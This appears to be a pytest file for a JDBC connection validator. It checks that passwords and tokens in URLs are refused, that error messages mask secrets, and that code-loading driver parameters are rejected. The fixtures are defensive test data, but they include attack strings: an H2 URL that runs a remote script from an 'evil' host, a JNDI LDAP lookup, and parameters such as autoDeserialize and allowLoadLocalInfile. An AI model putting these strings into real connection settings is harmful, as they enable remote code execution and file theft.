"""What a JDBC driver may be told: no secret in its URL, no code anywhere; and what of it no message shows."""

from __future__ import annotations

import pytest

from airflow_provider_ckpt.connectors.jdbc.parameters import check, without_secrets
from airflow_provider_ckpt.connectors.protocols import Connection
from airflow_provider_ckpt.core.errors import ConfigError


def connection(url: str, **properties: str) -> Connection:
    """A JDBC connection."""
    return Connection("shop", "jdbc", url, login="me", password="hunter2", extra={"properties": properties})


@pytest.mark.parametrize(
    ("url", "named"),
    [
        ("jdbc:postgresql://h/d?sslpassword=x", "sslpassword"),
        ("jdbc:sqlserver://h;databaseName=d;trustStorePassword=x", "trustStorePassword"),
        ("jdbc:sqlserver://h;accessToken=x", "accessToken"),
        ("jdbc:snowflake://h/?private_key_pwd=x", "private_key_pwd"),
        ("jdbc:databricks://h;PWD=x", "PWD"),
        ("jdbc:bigquery://h;OAuthAccessToken=x", "OAuthAccessToken"),
        ("jdbc:trino://h/d?apiKey=x", "apiKey"),
        ("jdbc:mysql://address=(host=h)(password=x)/d", "password"),
        ("jdbc:db2://h/d:user=a;password=x;", "password"),
        ("jdbc:teradata://h/USER=a,PASSWORD=x", "PASSWORD"),
    ],
)
def test_a_secret_in_a_url_is_refused_by_its_name(url: str, named: str) -> None:
    with pytest.raises(ConfigError, match=rf"holds a password \({named}\)") as refused:
        check(connection(url))
    assert "=x" not in str(refused.value)


@pytest.mark.parametrize(
    ("url", "properties", "named"),
    [
        ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", {}, "INIT"),
        ("jdbc:h2:mem:x;TRACE_LEVEL_FILE=3", {}, "TRACE_LEVEL_FILE"),
        ("jdbc:postgresql://h/d?socketFactory=x.Y&socketFactoryArg=z", {}, "socketFactory"),
        ("jdbc:postgresql://h/d", {"socketFactory": "x.Y"}, "socketFactory"),
        ("jdbc:postgresql://h/d", {"loggerFile": "/tmp/x"}, "loggerFile"),
        ("jdbc:postgresql://h/d", {"sslFactory": "x.Y"}, "sslFactory"),
        ("jdbc:mysql://h/d?autoDeserialize=true", {}, "autoDeserialize"),
        ("jdbc:mysql://h/d", {"allowLoadLocalInfile": "true"}, "allowLoadLocalInfile"),
        ("jdbc:mysql:loadbalance://h/d", {"queryInterceptors": "x.Y"}, "queryInterceptors"),
        ("jdbc:mariadb://h/d", {"credentialType": "x"}, "credentialType"),
        ("jdbc:sqlserver://h;trustManagerClass=x.Y", {}, "trustManagerClass"),
        ("jdbc:db2://h/d", {"pluginClassName": "x.Y"}, "pluginClassName"),
        ("jdbc:unknown://h/d;connectionFactory=x.Y", {}, "connectionFactory"),
        ("jdbc:derby:d;jndiName=ldap://evil", {}, "jndiName"),
    ],
)
def test_a_parameter_that_may_name_code_is_refused_by_its_name(
    url: str, properties: dict[str, str], named: str
) -> None:
    with pytest.raises(ConfigError, match=f"{named} is not accepted for a driver of"):
        check(connection(url, **properties))


@pytest.mark.parametrize(
    ("url", "properties"),
    [
        ("jdbc:postgresql://h:5432/d?sslmode=verify-full&ApplicationName=ckpt", {"sslpassword": "x", "ssl": "true"}),
        ("jdbc:h2:tcp://h/d;MODE=PostgreSQL;TIME ZONE=UTC;DB_CLOSE_DELAY=-1", {}),
        ("jdbc:mysql://h/d?useSSL=true&serverTimezone=UTC", {"trustCertificateKeyStorePassword": "x"}),
        ("jdbc:sqlserver://h:1433;databaseName=d;encrypt=true", {"accessToken": "x"}),
        ("jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=h)(PORT=1))(CONNECT_DATA=(SERVICE_NAME=s)))", {}),
        ("jdbc:clickhouse://h/d?compress=1", {"private_key_pwd": "x"}),
    ],
)
def test_what_is_harmless_passes(url: str, properties: dict[str, str]) -> None:
    check(connection(url, **properties))


def test_no_message_shows_what_is_not_known_to_be_harmless() -> None:
    told = connection("jdbc:other://h/d;keep=s3cret-1;user=visible", sslpassword="s3cret-2", odd="s3cret-3", ssl="true")

    text = without_secrets(
        told, "no s3cret-1, s3cret-2, s3cret-3 or hunter2: sslpassword=other, user=visible, ssl true"
    )

    assert text == "no ***, ***, *** or ***: sslpassword=***, user=visible, ssl true"
